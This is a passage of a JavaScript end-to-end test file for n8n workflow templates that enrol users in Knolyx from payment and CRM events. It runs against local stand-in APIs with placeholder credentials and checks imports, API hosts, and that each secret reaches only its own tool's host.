// The templates of examples/template-*.json (issues 24, 29) in a real n8n (2.41.1, or 1.123.81
// with `--n8n 1.123.81`) against the Knolyx sandbox.
//
// Each template is imported with n8n's CLI as the file is, plus what the user sets up: the
// Knolyx credential on its Knolyx nodes, its one mapping node edited, and a webhook ID per
// trigger as the editor's import gives it. Each trigger gets pinned data in its tool's payload
// shape (test/e2e/fixtures/<tool>.json, each naming its source). The templates read each object
// back from the tool's API: every read goes to a local stand-in (lib/tool-apis.mjs, reached
// through n8n's HTTPS_PROXY support) for api.stripe.com, api.hubapi.com, api-m.paypal.com (with
// its OAuth2 token request), api.pipedrive.com, and the hosts the Shopify and WooCommerce
// credentials name; it records every request with its headers and refuses any other host. n8n
// runs every node but the trigger for real, and the Knolyx side is checked in the sandbox.
//
//   0. every example: no fixed webhookId, a gallery-style note; template names; Pipedrive's auth.
//   1. every template imports; no credentials, no demo ids, fixed API hosts.
//   2-7. payment and CRM templates: paid enrols, forged or unpaid does not, refunds remove,
//        unmapped ids stop with a message, resends change nothing.
//   4b. a failed Knolyx write, then the tool's resend: enrolled once.
//   8. completion → HubSpot / Google Sheets / Slack: the items each tool node gets.
//   9. form → event registration.
//   10. the editor's own import, twice, in Chromium: two URLs.
//   11. the six payment and CRM templates published (their triggers register their webhooks at
//       the stand-ins; deliveries signed or authenticated as each tool does): a forged delivery
//       starts nothing; a failed Knolyx write, the resend enrols once, the next resend stops
//       before any request; the retry schedule of failed writes, its table, and the Error
//       workflow told of what needs a person.
//   12. the bulk template: a CSV file uploaded to its form, each row checked in the sandbox.

import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';

import {
	CREDENTIAL,
	DATA_TABLE_ENV,
	DONE,
	execution,
	executionsOf,
	N8N_MAJOR,
	N8N_VERSION,
	nodeOutput,
	OWNER,
	PAYMENT_HOOK_HEADERS,
	readExample,
	startTestFile,
	waitForExecutions,
} from './lib/n8n.mjs';
import { EDITOR_LOAD_MS, launchBrowser, screenshot, signIn } from './lib/browser.mjs';
import { parseCsv, toCsv, uploadToForm } from './lib/form-upload.mjs';
import { endTestFile, REPO_ROOT, RUN_DIR, sleep, waitFor } from './lib/processes.mjs';
import {
	listPayPalEvents,
	listPipedriveRecents,
	searchHubSpotDeals,
	listShopifyOrders,
	listStripeEvents,
	listWooCommerceOrders,
	SHOPIFY_SHOP,
	startToolApis,
	WOOCOMMERCE_STORE,
} from './lib/tool-apis.mjs';
import {
	demoFor,
	editWorkflow,
	fixture,
	isKnolyxType,
	membersOf,
	PATH_FROM_WEBHOOK_ID,
	prepareTemplate,
	runPinned,
	setUpTemplate,
	tagWorkflow,
	TEMPLATE_FILES,
	useDataTable,
	userByEmail,
	withoutTags,
} from './lib/templates.mjs';

const STRIPE = fixture('stripe');
const SHOPIFY = fixture('shopify');
const WOO = fixture('woocommerce');
const PAYPAL = fixture('paypal');
const HUBSPOT = fixture('hubspot');
const PIPEDRIVE = fixture('pipedrive');
const FORM_MAPPING = demoFor('template-form-event-registration.json').mapping;

// Demo seed (sandbox/seed.ts): workgroups 201 Intro to n8n, 202 Advanced Automation,
// 203 Data Literacy, 204 Community Members (community 301, event 401); course 101.
// The mapping each template gets (its one "(edit me)" node) is the `demo` block of its
// tool's fixture, which `npm run dev` uses too.
// Ids of 16 characters at most, as n8n makes them: n8n 1.x saves a workflow's static data only
// for such an id (isWorkflowIdValid), and section 11 needs it saved.
const WF = {
	stripe: prepareTemplate('template-stripe-enrolment.json', 'tplStripeEnrol01'),
	shopify: prepareTemplate('template-shopify-enrolment.json', 'tplShopifyEnrl01'),
	woo: prepareTemplate('template-woocommerce-enrolment.json', 'tplWooEnrol00001'),
	paypal: prepareTemplate('template-paypal-enrolment.json', 'tplPaypalEnrol01'),
	hubspot: prepareTemplate('template-hubspot-deal-won-enrolment.json', 'tplHubspotWon001'),
	pipedrive: prepareTemplate('template-pipedrive-deal-won-enrolment.json', 'tplPipedriveWon1'),
	completed: prepareTemplate('template-course-completed-crm.json', 'tplCompletedCrm1', {
		disable: ['Update contact in HubSpot', 'Append row in Google Sheets', 'Post in Slack'],
	}),
	form: prepareTemplate('template-form-event-registration.json', 'tplFormRegister1'),
	bulk: prepareTemplate('template-bulk-enrolment.json', 'tplBulkEnrol0001'),
};
const FILE_OF = {
	stripe: 'template-stripe-enrolment.json',
	shopify: 'template-shopify-enrolment.json',
	woo: 'template-woocommerce-enrolment.json',
	paypal: 'template-paypal-enrolment.json',
	hubspot: 'template-hubspot-deal-won-enrolment.json',
	pipedrive: 'template-pipedrive-deal-won-enrolment.json',
	completed: 'template-course-completed-crm.json',
	form: 'template-form-event-registration.json',
	bulk: 'template-bulk-enrolment.json',
};

/**
 * The workflow a template's note asks for in *Workflow settings → Error workflow* (its "When a run
 * needs you" step): an Error Trigger, whose runs show what a person would be told.
 */
const ERROR_WF = {
	id: 'tplTellAPerson01',
	name: 'Tell a person when a run fails',
	nodes: [
		{
			parameters: {},
			id: '5a1e00e0-0001-4000-8000-0000000000e1',
			name: 'On a failed run',
			type: 'n8n-nodes-base.errorTrigger',
			typeVersion: 1,
			position: [0, 0],
		},
	],
	connections: {},
	settings: { executionOrder: 'v1' },
};

/** Make ERROR_WF the Error workflow of workflow `id`, as the note's step does. */
const tellAPersonOf = (id) =>
	editWorkflow(rest, id, (wf) => ({
		...wf,
		settings: { ...wf.settings, errorWorkflow: ERROR_WF.id },
	}));

/**
 * What ERROR_WF was told in a run it made since it had `before` runs, the first whose Error
 * Trigger item satisfies `about(item)` (waited for): { workflowId, message }.
 */
function toldAPerson(before, about) {
	return waitFor(
		async () => {
			const list = await executionsOf(rest, ERROR_WF.id);
			for (const e of list.slice(0, list.length - before).filter((r) => DONE.has(r.status))) {
				const [item] = nodeOutput(await execution(rest, e.id), 'On a failed run') ?? [];
				if (item && about(item))
					return { workflowId: item.workflow.id, message: item.execution.error.message };
			}
			return false;
		},
		{ timeoutMs: 60_000, what: 'the run of the Error workflow that tells it' },
	);
}
const errorRuns = async () => (await executionsOf(rest, ERROR_WF.id)).length;

let sandbox;
let sb;
let n8n;
let rest;

let apis;
/** Each template's data table of pending Knolyx writes, by WF key (lib/template-setup.mjs useDataTable). */
const pending = {};
const STRIPE_KEY = { secretKey: 'sk_test_51StandInKeyForTheTemplatesE2eRunOnly' };
/**
 * What the tools' stand-ins hold, by host and path: `toolHas(host, path, body)` makes a GET of that
 * path answer `body`. Paths are compared with `//` read as `/` (the Shopify node sends
 * `/admin/api/<version>//orders/<id>.json`) and without Shopify's API version.
 */
const toolObjects = new Map();
const toolPath = (pathname) =>
	pathname.replace(/\/{2,}/g, '/').replace(/^\/admin\/api\/\d{4}-\d{2}\//, '/admin/api/');
const toolHas = (host, pathname, body) => toolObjects.set(`${host}${toolPath(pathname)}`, body);
const SHOPIFY_HOST = `${SHOPIFY_SHOP}.myshopify.com`;
const WOOCOMMERCE_HOST = new URL(WOOCOMMERCE_STORE).hostname;
/** The objects the stand-ins hold under `prefix` (host and path), e.g. every Stripe event. */
const held = (prefix) =>
	[...toolObjects].filter(([at]) => at.startsWith(prefix)).map(([, body]) => body);
/** api.stripe.com's objects by path. */
const stripeHas = (pathname, body) => toolHas('api.stripe.com', pathname, body);
/** api.hubapi.com's (the HubSpot node's v1 deal and contact reads, the v3 pipelines). */
const hubspotHas = (pathname, body) => toolHas('api.hubapi.com', pathname, body);
/** The shop has `order` (GET /admin/api/<version>/orders/<id>.json answers { order }). */
const shopHas = (order) => toolHas(SHOPIFY_HOST, `/admin/api/orders/${order.id}.json`, { order });
/** PayPal's objects by path. */
const paypalHas = (pathname, body) => toolHas('api-m.paypal.com', pathname, body);
/** Pipedrive's API has `data` at `/v1/<path>` (answers { success, data }). */
const pipedriveHas = (pathname, data) =>
	toolHas('api.pipedrive.com', `/v1${pathname}`, { success: true, data });
/** The Shopify credential of sections 3 and 11 (the shop is the stand-in's host). */
const SHOPIFY_CREDENTIAL = {
	shopSubdomain: SHOPIFY_SHOP,
	accessToken: 'shpat_standInAccessTokenForTheTemplatesE2e',
	appSecretKey: 'standInAppSecretForTheTemplatesE2e',
};
/** The Pipedrive credential of sections 7 and 11. */
const PIPEDRIVE_TOKEN = { apiToken: 'standInPipedriveApiTokenForTheTemplatesE2e' };
/** PayPal's answer to the client-credentials token request of the test's OAuth2 credential. */
// The PayPal template's OAuth2 credential as its note describes it (client credentials, token URL
// on api-m.paypal.com).
const PAYPAL_OAUTH = {
	grantType: 'clientCredentials',
	accessTokenUrl: 'https://api-m.paypal.com/v1/oauth2/token',
	clientId: 'AStandInPayPalClientIdForTheTemplatesE2e',
	clientSecret: 'EStandInPayPalClientSecretForTheTemplatesE2e',
	scope: '',
	authentication: 'header',
};
const PAYPAL_TOKEN = {
	scope: 'https://uri.paypal.com/services/payments/payment',
	access_token: 'A21AAStandInAccessTokenForTheTemplatesE2eOnly',
	token_type: 'Bearer',
	app_id: 'APP-80W284485P519543T',
	expires_in: 32400,
	nonce: '2026-11-26T09:00:00ZstandInNonce',
};

/**
 * The webhooks the WooCommerce and Pipedrive triggers register at their stand-ins when the
 * templates are published (section 11): `created` is the body the trigger sent, until it deletes it.
 */
const WOO_HOOK = { id: 501, created: undefined };
const PIPEDRIVE_HOOK = { id: 7001, created: undefined };
/** The Shopify triggers' webhooks at the shop, by id. */
const SHOPIFY_HOOKS = Object.assign(new Map(), { made: 0 });
/** The PayPal trigger's webhook, and the messages "PayPal sent" by transmission id ({ sig, event }). */
const PAYPAL_HOOK = { id: '8PT597110X687430LKGECATA', created: undefined, sent: new Map() };
/** The HubSpot app of the trigger's developer credential: its webhook settings and subscriptions. */
const HUBSPOT_TOKEN = { appToken: 'pat-na1-standin-token-for-the-templates-e2e' };
/** The HubSpot template's reads: its app token credential, and the two pipelines HubSpot has. */
async function hubspotReads() {
	await useCredential(
		WF.hubspot.id,
		'hubspotAppToken',
		HUBSPOT_TOKEN,
		(n) => n.name.endsWith('from HubSpot') || n.parameters.nodeCredentialType === 'hubspotAppToken',
	);
	hubspotHas('/crm/v3/pipelines/deals/default', HUBSPOT.pipelineDefault);
	hubspotHas('/crm/v3/pipelines/deals/18765432', HUBSPOT.pipelineRenewals);
}
const HUBSPOT_APP = {
	appId: '1160452',
	apiKey: 'standInHubSpotDeveloperApiKeyForTheE2e',
	clientId: 'standin-hubspot-client-id',
	clientSecret: 'standInHubSpotClientSecretForTheE2e',
};
const HUBSPOT_HOOK = { settings: undefined, subscriptions: new Map(), made: 0 };
function toolWebhooks({ host, method, path: pathname, body }) {
	if (host === WOOCOMMERCE_HOST && pathname.startsWith('/wp-json/wc/v3/webhooks')) {
		const hook = () => ({ ...WOO_HOOK.created, id: WOO_HOOK.id, status: 'active' });
		if (method === 'GET' && pathname === '/wp-json/wc/v3/webhooks')
			return { status: 200, body: WOO_HOOK.created ? [hook()] : [] };
		if (method === 'POST' && pathname === '/wp-json/wc/v3/webhooks') {
			WOO_HOOK.created = JSON.parse(body);
			return { status: 201, body: hook() };
		}
		if (method === 'DELETE' && pathname === `/wp-json/wc/v3/webhooks/${WOO_HOOK.id}`) {
			const gone = hook();
			WOO_HOOK.created = undefined;
			return { status: 200, body: gone };
		}
	}
	if (host === 'api.pipedrive.com' && pathname.startsWith('/v1/webhooks')) {
		const hook = () => ({ ...PIPEDRIVE_HOOK.created, id: PIPEDRIVE_HOOK.id });
		if (method === 'GET' && pathname === '/v1/webhooks')
			return { status: 200, body: { success: true, data: PIPEDRIVE_HOOK.created ? [hook()] : [] } };
		if (method === 'POST' && pathname === '/v1/webhooks') {
			PIPEDRIVE_HOOK.created = JSON.parse(body);
			return { status: 201, body: { success: true, data: hook() } };
		}
		if (method === 'DELETE' && pathname === `/v1/webhooks/${PIPEDRIVE_HOOK.id}`) {
			PIPEDRIVE_HOOK.created = undefined;
			return { status: 200, body: { success: true, data: { id: PIPEDRIVE_HOOK.id } } };
		}
	}
	if (host === SHOPIFY_HOST && /^\/admin\/api\/webhooks/.test(toolPath(pathname))) {
		const p = toolPath(pathname);
		if (method === 'GET' && p === '/admin/api/webhooks')
			return { status: 200, body: { webhooks: [...SHOPIFY_HOOKS.values()] } };
		if (method === 'POST' && p === '/admin/api/webhooks.json') {
			const id = 1100001 + SHOPIFY_HOOKS.made++;
			const webhook = { ...JSON.parse(body).webhook, id };
			SHOPIFY_HOOKS.set(id, webhook);
			return { status: 201, body: { webhook } };
		}
		const id = Number(/^\/admin\/api\/webhooks\/(\d+)\.json$/.exec(p)?.[1]);
		if (method === 'DELETE' && SHOPIFY_HOOKS.delete(id)) return { status: 200, body: {} };
	}
	if (host === 'api-m.paypal.com' && pathname.startsWith('/v1/notifications/')) {
		if (method === 'POST' && pathname === '/v1/notifications/webhooks') {
			PAYPAL_HOOK.created = JSON.parse(body);
			return { status: 201, body: { id: PAYPAL_HOOK.id, ...PAYPAL_HOOK.created } };
		}
		const mine = pathname === `/v1/notifications/webhooks/${PAYPAL_HOOK.id}` && PAYPAL_HOOK.created;
		if (method === 'GET' && mine)
			return { status: 200, body: { id: PAYPAL_HOOK.id, ...PAYPAL_HOOK.created } };
		if (method === 'DELETE' && mine) {
			PAYPAL_HOOK.created = undefined;
			return { status: 204, body: {} };
		}
		if (method === 'POST' && pathname === '/v1/notifications/verify-webhook-signature') {
			// PayPal's answer: SUCCESS only for a message it sent (transmission id and signature) to
			// this webhook, with the event it sent.
			const v = JSON.parse(body);
			const sent = PAYPAL_HOOK.sent.get(v.transmission_id);
			const ok =
				sent !== undefined &&
				v.transmission_sig === sent.sig &&
				v.webhook_id === PAYPAL_HOOK.id &&
				JSON.stringify(v.webhook_event) === JSON.stringify(sent.event);
			return { status: 200, body: { verification_status: ok ? 'SUCCESS' : 'FAILURE' } };
		}
	}
	if (host === 'api.hubapi.com' && pathname.startsWith(`/webhooks/v3/${HUBSPOT_APP.appId}/`)) {
		const part = pathname.slice(`/webhooks/v3/${HUBSPOT_APP.appId}`.length);
		if (part === '/settings') {
			if (method === 'GET')
				return HUBSPOT_HOOK.settings ? { status: 200, body: HUBSPOT_HOOK.settings } : undefined;
			if (method === 'PUT') {
				HUBSPOT_HOOK.settings = JSON.parse(body);
				return { status: 200, body: HUBSPOT_HOOK.settings };
			}
			if (method === 'DELETE') {
				HUBSPOT_HOOK.settings = undefined;
				return { status: 204, body: {} };
			}
		}
		if (part === '/subscriptions' && method === 'GET')
			return { status: 200, body: { results: [...HUBSPOT_HOOK.subscriptions.values()] } };
		if (part === '/subscriptions' && method === 'POST') {
			const id = 2881778 + HUBSPOT_HOOK.made++;
			HUBSPOT_HOOK.subscriptions.set(id, { ...JSON.parse(body), id });
			return { status: 201, body: HUBSPOT_HOOK.subscriptions.get(id) };
		}
		const sub = Number(/^\/subscriptions\/(\d+)$/.exec(part)?.[1]);
		if (method === 'DELETE' && HUBSPOT_HOOK.subscriptions.delete(sub))
			return { status: 204, body: {} };
	}
	return undefined;
}

/**
 * The stand-in's answers: the triggers' webhook registrations, PayPal's token, Stripe's endpoint
 * and its session list by payment_intent, then every tool's objects (toolHas) by path.
 */
function answerAsTools(request) {
	const { host, method, path: pathname, query } = request;
	const hooks = toolWebhooks(request);
	if (hooks) return hooks;
	if (host === 'api-m.paypal.com' && method === 'POST' && pathname === '/v1/oauth2/token')
		return { status: 200, body: PAYPAL_TOKEN };
	if (host === 'api.stripe.com' && pathname.startsWith('/v1/webhook_endpoints'))
		return stripeWebhookEndpoint(method, pathname);
	if (host === 'api.hubapi.com' && method === 'POST' && pathname === '/crm/v3/objects/deals/search')
		return searchHubSpotDeals(held('api.hubapi.com/deals/v1/deal/').map(asV3Deal), request.body);
	if (method !== 'GET') return undefined;
	if (host === SHOPIFY_HOST && toolPath(pathname) === '/admin/api/orders.json')
		return listShopifyOrders(
			held(`${SHOPIFY_HOST}/admin/api/orders/`).map(({ order }) => order),
			query,
		);
	if (host === 'api.pipedrive.com' && pathname === '/v1/recents')
		return listPipedriveRecents(
			held('api.pipedrive.com/v1/deals/').map(({ data }) => data),
			query,
		);
	if (host === 'api.stripe.com' && pathname === '/v1/events')
		return listStripeEvents(held('api.stripe.com/v1/events/'), query);
	if (host === WOOCOMMERCE_HOST && pathname === '/wp-json/wc/v3/orders')
		return listWooCommerceOrders(
			held(`${WOOCOMMERCE_HOST}/wp-json/wc/v3/orders/`),
			query,
			`https://${host}${pathname}`,
		);
	if (host === 'api-m.paypal.com' && pathname === '/v1/notifications/webhooks-events')
		// Every event PayPal made: those it delivered (PAYPAL_HOOK.sent) and those it holds undelivered.
		return listPayPalEvents(
			[
				...new Map(
					[...PAYPAL_HOOK.sent.values()]
						.map(({ event }) => event)
						.concat(held('api-m.paypal.com/v1/notifications/webhooks-events/'))
						.map((e) => [e.id, e]),
				).values(),
			],
			query,
			`https://${host}${pathname}`,
		);
	if (host === 'api.stripe.com' && pathname === '/v1/checkout/sessions') {
		// The fixture's refunded session, or the sessions the stand-in holds of that payment intent.
		const list =
			query.payment_intent === STRIPE.chargeRead.payment_intent
				? STRIPE.refundedCheckoutSessions
				: {
						object: 'list',
						data: held('api.stripe.com/v1/checkout/sessions/').filter(
							(s) => s.payment_intent?.id === query.payment_intent,
						),
						has_more: false,
						url: pathname,
					};
		return { status: 200, body: list };
	}
	const body = toolObjects.get(`${host}${toolPath(pathname)}`);
	return body ? { status: 200, body } : undefined;
}

/**
 * A deal HubSpot holds (as its v1 read answers it) as its v3 CRM search sees it: plain property
 * values, and `hs_is_closed_won` from its pipeline's stage (closed, probability 1.0).
 */
function asV3Deal(deal) {
	const properties = Object.fromEntries(
		Object.entries(deal.properties).map(([name, p]) => [name, p?.value ?? null]),
	);
	const pipeline = toolObjects.get(`api.hubapi.com/crm/v3/pipelines/deals/${properties.pipeline}`);
	const stage = pipeline?.stages.find((s) => s.id === properties.dealstage);
	const won = stage?.metadata.isClosed === 'true' && Number(stage.metadata.probability) === 1;
	return { id: deal.dealId, properties: { ...properties, hs_is_closed_won: String(won) } };
}

/** The Stripe Trigger's endpoint on the stand-in (created when the template is published). */
const STRIPE_ENDPOINT = {
	id: 'we_standInTemplatesE2e0001',
	object: 'webhook_endpoint',
	secret: 'whsec_StandInSigningSecretForTheE2eRunOnly',
	status: 'enabled',
	enabled_events: ['*'],
};
let stripeEndpointExists = false;
function stripeWebhookEndpoint(method, pathname) {
	if (method === 'POST' && pathname === '/v1/webhook_endpoints') {
		stripeEndpointExists = true;
		return { status: 200, body: STRIPE_ENDPOINT };
	}
	if (!stripeEndpointExists || pathname !== `/v1/webhook_endpoints/${STRIPE_ENDPOINT.id}`)
		return undefined;
	if (method === 'DELETE') {
		stripeEndpointExists = false;
		return {
			status: 200,
			body: { id: STRIPE_ENDPOINT.id, object: 'webhook_endpoint', deleted: true },
		};
	}
	return method === 'GET' ? { status: 200, body: STRIPE_ENDPOINT } : undefined;
}

/**
 * Every request that carried `secret` in a header, its path or its query (more than `atLeast`)
 * went to `host`; nothing was refused.
 */
function expectSecretOnlyTo(secret, host, atLeast) {
	const carrying = apis.requests.filter((r) =>
		JSON.stringify([r.headers, r.path, r.query]).includes(secret),
	);
	expect(carrying.length).toBeGreaterThan(atLeast);
	expect([...new Set(carrying.map((r) => r.host))]).toEqual([host]);
	expect(apis.refused).toEqual([]);
}

/**
 * Create the user's credential for a tool over REST and choose it in the nodes of workflow `id`
 * that `pick` selects (as the user does in the editor).
 */
async function useCredential(id, type, data, pick) {
	const created = await rest.request('POST', '/rest/credentials', {
		name: `${type} (stand-in)`,
		type,
		data,
	});
	await editWorkflow(rest, id, (wf) => {
		for (const node of wf.nodes.filter(pick))
			node.credentials = { ...node.credentials, [type]: { id: created.id, name: created.name } };
		return wf;
	});
}

/** Set `field` of the Set node `node` of template `key` to `value` (a user editing the "(edit me)" node). */
async function setField(key, node, field, value) {
	await editWorkflow(rest, WF[key].id, (wf) => {
		const assignment = wf.nodes
			.find((n) => n.name === node)
			.parameters.assignments.assignments.find((a) => a.name === field);
		assignment.value = value;
		return wf;
	});
}

beforeAll(async () => {
	let timings;
	// n8n reaches the tools' API hosts through the stand-in: its global proxy agent follows
	// HTTPS_PROXY (127.0.0.1 stays direct), and it trusts the stand-in's CAs.
	apis = await startToolApis({ dir: path.join(RUN_DIR, 'tool-apis') });
	apis.setAnswer(answerAsTools);
	const saved = { ...process.env };
	const env = {
		HTTPS_PROXY: apis.proxyUrl,
		NO_PROXY: '127.0.0.1,localhost',
		NODE_EXTRA_CA_CERTS: apis.caBundle,
	};
	Object.assign(process.env, env);
	try {
		({ sandbox, sb, n8n, rest, timings } = await startTestFile({
			workflows: [...Object.values(WF).map(withoutTags), ERROR_WF],
			env: DATA_TABLE_ENV, // the retry's data tables: on 1.x the pooled SQLite driver
		}));
	} finally {
		for (const key of Object.keys(env))
			if (saved[key] === undefined) delete process.env[key];
			else process.env[key] = saved[key];
	}
	for (const wf of Object.values(WF))
		await tagWorkflow(
			rest,
			wf.id,
			wf.tags.map((t) => t.name),
		);
	// The data table each template with a retry schedule keeps its pending writes in, as its note
	// asks: made by the workflow on n8n 2, made by hand with its ID in one node on n8n 1.x.
	for (const [key, wf] of Object.entries(WF)) {
		const table = await useDataTable(rest, wf.id, { n8nMajor: N8N_MAJOR });
		if (table) pending[key] = table;
	}
	// n8n 2 runs a published Error workflow only; n8n 1.x any.
	if (N8N_MAJOR >= 2) await rest.activateWorkflow(ERROR_WF.id);
	console.log(
		`[e2e templates] run folder ${RUN_DIR}; sandbox ${sandbox.url}; n8n ${N8N_VERSION} at ${n8n.url}; ${JSON.stringify(timings)}`,
	);
}, 300_000);

afterAll(async () => {
	await apis?.close();
	await endTestFile('templates', { n8n, sandbox });
}, 60_000);

/** Run a template with pinned data; the execution must succeed. Returns it with what Knolyx received. */
async function run(key, trigger, pins) {
	const before = await sb.stats();
	const ex = await runPinned(rest, WF[key].id, trigger, pins);
	const error = ex.run?.resultData?.error;
	if (ex.status !== 'success')
		throw new Error(
			`${key}: execution ${ex.id} ${ex.status}: ${error?.message ?? ''} ${error?.description ?? ''}`,
		);
	const after = await sb.stats();
	return { ex, knolyxRequests: after.requests - before.requests, state: await sb.state() };
}

/**
 * A resent event: the execution succeeds and the business state is unchanged (the templates
 * decide on the tool's answer and Knolyx's enrol and remove are idempotent).
 */
async function expectReplayChangesNothing(key, trigger, pins) {
	const before = await sb.businessState();
	const { ex } = await run(key, trigger, pins);
	expect(await sb.businessState()).toEqual(before);
	return ex;
}

// The templates' data tables need their line's database settings (docs/templates.md: on 1.x
// DB_SQLITE_POOL_SIZE): this file's n8n runs with them, as a user's must.
test("this file's n8n runs with the database settings the templates' data tables need on its line", () => {
	const environ = fs.readFileSync(`/proc/${n8n.pid}/environ`, 'utf8').split('\0');
	for (const [key, value] of Object.entries(DATA_TABLE_ENV))
		expect(environ).toContain(`${key}=${value}`);
});

// ----------------------------------------------------------------- 1.

describe('1. every template imports cleanly', () => {
	let types;
	beforeAll(async () => {
		types = new Map();
		for (const t of await rest.nodeTypes()) {
			for (const v of [].concat(t.version)) types.set(`${t.name}@${v}`, t);
		}
	});

	test.each(Object.keys(WF))(
		'%s: n8n holds it as imported; every node type and version exists in this n8n; connections whole',
		async (key) => {
			const file = readExample(FILE_OF[key]);
			const stored = await rest.request('GET', `/rest/workflows/${WF[key].id}`);
			expect(stored.nodes.map((n) => n.name).sort()).toEqual(file.nodes.map((n) => n.name).sort());
			const missing = stored.nodes
				.filter((n) => !types.has(`${n.type}@${n.typeVersion}`))
				.map((n) => `${n.type}@${n.typeVersion}`);
			expect(missing).toEqual([]);
			const names = new Set(stored.nodes.map((n) => n.name));
			const reached = new Set();
			for (const [from, { main }] of Object.entries(stored.connections)) {
				expect(names.has(from)).toBe(true);
				for (const out of main)
					for (const c of out ?? []) {
						expect(names.has(c.node)).toBe(true);
						reached.add(c.node);
					}
			}
			// Every node but the triggers and the note is fed by another node.
			const isTrigger = (n) => types.get(`${n.type}@${n.typeVersion}`).group.includes('trigger');
			const unfed = stored.nodes.filter(
				(n) => n.type !== 'n8n-nodes-base.stickyNote' && !isTrigger(n) && !reached.has(n.name),
			);
			expect(unfed.map((n) => n.name)).toEqual([]);
			expect(stored.nodes.filter(isTrigger).length).toBeGreaterThan(0);
			expect((stored.tags ?? []).map((t) => t.name).sort()).toEqual(
				file.tags.map((t) => t.name).sort(),
			);
		},
	);

	test.each(TEMPLATE_FILES)(
		'%s: no credentials inside, named nodes, no demo ids, no step that skips an event before Knolyx wrote it',
		(name) => {
			const file = readExample(name);
			expect(file.nodes.filter((n) => n.credentials).map((n) => n.name)).toEqual([]);
			expect(file.tags.map((t) => t.name)).toContain('Knolyx');
			// No n8n default names ("Set", "HTTP Request1", "Knolyx"): each says what it does.
			const defaults =
				/^(Set|Edit Fields|HTTP Request|Switch|Filter|If|Split Out|Remove Duplicates|Knolyx|Knolyx Trigger|Webhook|Slack|HubSpot|Google Sheets)\d*$/;
			expect(file.nodes.filter((n) => defaults.test(n.name)).map((n) => n.name)).toEqual([]);
			expect(Object.keys(WF).map((k) => FILE_OF[k])).toContain(name);
			// The "(edit me)" mappings ship empty (a test-payment switch, where there is one, off);
			// Knolyx nodes hold no literal IDs.
			for (const node of file.nodes.filter((n) => n.name.endsWith('(edit me)'))) {
				const [mapping, ...switches] = node.parameters.assignments.assignments;
				expect(mapping.value).toBe('{}');
				expect(switches.map((a) => [a.name, a.value])).toEqual(
					switches.map((a) => [
						expect.stringMatching(/^enrol(TestOrders|SandboxPayments)$/),
						false,
					]),
				);
			}
			const knolyxIds = file.nodes
				.filter((n) => isKnolyxType(n.type))
				.flatMap((n) =>
					['workgroupId', 'communityId', 'eventId', 'courseId']
						.map((f) => n.parameters[f])
						.map((v) => (v && typeof v === 'object' ? v.value : v))
						.filter((v) => v !== undefined && v !== '' && !String(v).startsWith('=')),
				);
			expect(knolyxIds).toEqual([]);
			// Remove Duplicates records a key before Knolyx wrote: a resend after a failed write would be skipped.
			expect(file.nodes.filter((n) => n.type === 'n8n-nodes-base.removeDuplicates')).toEqual([]);
		},
	);

	test.each(TEMPLATE_FILES)(
		"%s: every HTTP Request goes to a fixed API host with the tool's credential; nothing from the body before the path",
		(name) => {
			const HOSTS = ['api.stripe.com', 'api-m.paypal.com', 'api.hubapi.com', 'api.pipedrive.com'];
			for (const node of readExample(name).nodes.filter(
				(n) => n.type === 'n8n-nodes-base.httpRequest',
			)) {
				const url = node.parameters.url.replace(/^=/, '');
				const m = /^https:\/\/([a-z0-9.-]+)\/[^{]*/.exec(url);
				// WooCommerce's sweep (issue 56): the store's own API, at the address the user types in
				// the node as in the WooCommerce credential (an HTTP Request node cannot read the
				// credential's URL); shipped as a placeholder, with no expression anywhere in the URL.
				const store =
					m?.[1] === 'your-store.example' &&
					node.parameters.nodeCredentialType === 'wooCommerceApi' &&
					!url.includes('{{');
				expect({ node: node.name, host: HOSTS.includes(m?.[1]) || store }).toEqual({
					node: node.name,
					host: true,
				});
				// An expression only inside the path, each value URI-encoded as one segment (or a query value).
				for (const expr of url.match(/\{\{[^}]*\}\}/g) ?? [])
					expect(expr).toMatch(/^\{\{ encodeURIComponent\(/);
				expect(['predefinedCredentialType', 'genericCredentialType']).toContain(
					node.parameters.authentication,
				);
			}
		},
	);
});

describe('0. every example (examples/*.json) as a user imports it', () => {
	const EXAMPLES = fs
		.readdirSync(path.join(REPO_ROOT, 'examples'))
		.filter((f) => f.endsWith('.json'))
		.sort();
	const notesOf = (wf) => wf.nodes.filter((n) => n.type === 'n8n-nodes-base.stickyNote');
	// The files as they are (readExample gives them webhook IDs, as the editor's import does).
	const readFile = (file) =>
		JSON.parse(fs.readFileSync(path.join(REPO_ROOT, 'examples', file), 'utf8'));

	test.each(EXAMPLES)(
		'%s: no fixed webhookId (n8n gives each import its own); a note that says what it does, what to set, who can reach its URL',
		(file) => {
			const wf = readFile(file);
			expect(wf.nodes.filter((n) => 'webhookId' in n).map((n) => n.name)).toEqual([]);
			// A Webhook, Form or MCP trigger's path is its URL: empty, so that the editor's import
			// sets it to the node's own new webhook ID (a fixed one is shared by every import).
			expect(
				wf.nodes
					.filter((n) => PATH_FROM_WEBHOOK_ID.includes(n.type) && (n.parameters.path ?? '') !== '')
					.map((n) => [n.name, n.parameters.path]),
			).toEqual([]);
			const notes = notesOf(wf);
			expect(notes.length).toBeGreaterThan(0);
			const [overview] = notes;
			// n8n's gallery: a yellow (default colour) overview note with these two headings.
			expect(overview.parameters.color ?? 1).toBe(1);
			const text = overview.parameters.content;
			expect(text).toMatch(/^# [A-Z]/);
			expect(text).toContain('\n## How it works\n');
			expect(text).toContain('\n## Set up steps\n');
			expect(text).toContain('self-hosted n8n');
			expect(text).toMatch(/\*\*Who can reach (the URL|it)\*\*/);
		},
	);

	test.each(TEMPLATE_FILES)('%s: its name starts with a verb, as its note title does', (file) => {
		const wf = readFile(file);
		const verb = /^(Enrol|Register|Send|Build|Give) /;
		expect(wf.name).toMatch(verb);
		expect(notesOf(wf)[0].parameters.content.slice(2)).toMatch(verb);
	});

	test('the Pipedrive trigger asks for Basic Auth on every request (Incoming Authentication)', () => {
		const wf = readExample('template-pipedrive-deal-won-enrolment.json');
		const trigger = wf.nodes.find((n) => n.type === 'n8n-nodes-base.pipedriveTrigger');
		expect(trigger.parameters.incomingAuthentication).toBe('basicAuth');
	});
});

// ----------------------------------------------------------------- 2.

describe("2. Stripe: what Stripe's API (a local stand-in for api.stripe.com) says is paid enrols; a full refund or an ended subscription removes", () => {
	const TRIGGER = 'On Stripe payment, refund or cancellation';
	const GRACE = 'grace.hopper@example.com';
	const KATHERINE = 'katherine.johnson@example.com';
	const MARY = 'mary.golda.ross@example.com';
	const SESSION = STRIPE.checkoutSessionRead.id;
